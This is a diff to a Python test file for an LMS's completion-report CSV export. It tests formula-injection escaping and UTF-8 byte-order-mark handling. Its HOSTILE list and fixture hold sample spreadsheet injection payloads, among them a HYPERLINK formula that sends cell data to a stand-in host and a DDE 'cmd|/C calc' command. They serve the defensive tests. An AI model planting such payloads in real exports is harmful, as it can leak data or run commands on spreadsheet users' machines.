@@ -52,7 +52,7 @@ def _download(door, client, api_for, user, params):
         response = client.get("/oversight/completion.csv", params)
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
-    body = b"".join(response.streaming_content).decode()
+    body = b"".join(response.streaming_content).decode("utf-8-sig")  # the page has a BOM
     return response["Content-Disposition"], list(csv.DictReader(io.StringIO(body)))
 
 
@@ -80,3 +80,106 @@ def test_each_door_exports_the_filtered_rows_and_records_the_export(
         "status": params.get("status"),
         "category": params.get("category"),
     }
+
+
+# Spreadsheet formula injection (OWASP "CSV Injection") and the byte order mark
+
+HOSTILE = [
+    '=HYPERLINK("http://x.example/"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\tTab",
+    "\rReturn",
+]
+
+
+@pytest.fixture
+def hostile_person(agency_a, command_a):
+    unit = UnitFactory(agency=agency_a, name="=1+1")
+    return PersonFactory(
+        agency=agency_a,
+        unit=unit,
+        badge_number="-3",
+        rank="@rank",
+        user__first_name="=cmd|' /C calc'!A0",
+        user__last_name="",
+    )
+
+
+@pytest.mark.parametrize("door", DOORS)
+def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(
+    client, api_for, command_a, hostile_person, door
+):
+    _, rows = _download(door, client, api_for, command_a.user, {})
+
+    row = next(r for r in rows if r["person_id"] == str(hostile_person.pk))
+    assert row["name"] == "'=cmd|' /C calc'!A0"
+    assert row["unit"] == "'=1+1"
+    # A badge that looks like a negative number is text, escaped too (documented choice).
+    assert row["badge_number"] == "'-3"
+    # Numbers the report computes are left as numbers.
+    assert row["modules_completed"] == "0"
+
+
+@pytest.mark.parametrize("value", [*HOSTILE, "\0nul", "\nnewline"])
+def test_safe_cell_prefixes_every_formula_trigger(value):
+    from lms.csv_export import safe_cell
+
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["José Núñez", "", "a=b", "'quoted", "1-2", 7, -3, None])
+def test_safe_cell_leaves_other_values_alone(value):
+    from lms.csv_export import safe_cell
+
+    assert safe_cell(value) == ("" if value is None else value)
+
+
+def _raw(door, client, api_for, user, params):
+    if door == "api":
+        response = api_for(user).get("/api/v1/reports/completion.csv", params)
+    else:
+        client.force_login(user)
+        response = client.get("/oversight/completion.csv", params)
+    assert response.status_code == 200
+    return b"".join(response.streaming_content)
+
+
+def test_page_download_starts_with_the_utf8_byte_order_mark(client, api_for, command_a):
+    PersonFactory(agency=command_a.agency, user__first_name="José", user__last_name="Núñez")
+
+    body = _raw("page", client, api_for, command_a.user, {})
+
+    assert body.startswith(b"\xef\xbb\xbfperson_id,")
+    assert "José Núñez" in body.decode("utf-8-sig")
+
+
+def test_api_csv_has_no_byte_order_mark_unless_asked(client, api_for, command_a):
+    PersonFactory(agency=command_a.agency, user__first_name="José", user__last_name="Núñez")
+
+    plain = _raw("api", client, api_for, command_a.user, {})
+    marked = _raw("api", client, api_for, command_a.user, {"bom": "1"})
+    unmarked = _raw("api", client, api_for, command_a.user, {"bom": "0"})
+
+    assert plain.startswith(b"person_id,")
+    assert unmarked == plain
+    assert marked == b"\xef\xbb\xbf" + plain
+    assert "José Núñez" in marked.decode("utf-8-sig")
+
+
+def test_api_csv_refuses_a_bom_value_that_is_not_a_boolean(api_for, command_a):
+    response = api_for(command_a.user).get("/api/v1/reports/completion.csv", {"bom": "maybe"})
+
+    assert response.status_code == 400
+    assert "bom" in response.json()
+
+
+def test_the_bom_parameter_is_in_the_openapi_schema(api_for, command_a):
+    schema = api_for(command_a.user).get("/api/v1/schema/", {"format": "json"}).json()
+
+    parameters = schema["paths"]["/api/v1/reports/completion.csv"]["get"]["parameters"]
+    bom = next(p for p in parameters if p["name"] == "bom")
+    assert bom["in"] == "query"
+    assert bom["schema"]["type"] == "boolean"
+    assert "byte order mark" in bom["description"]
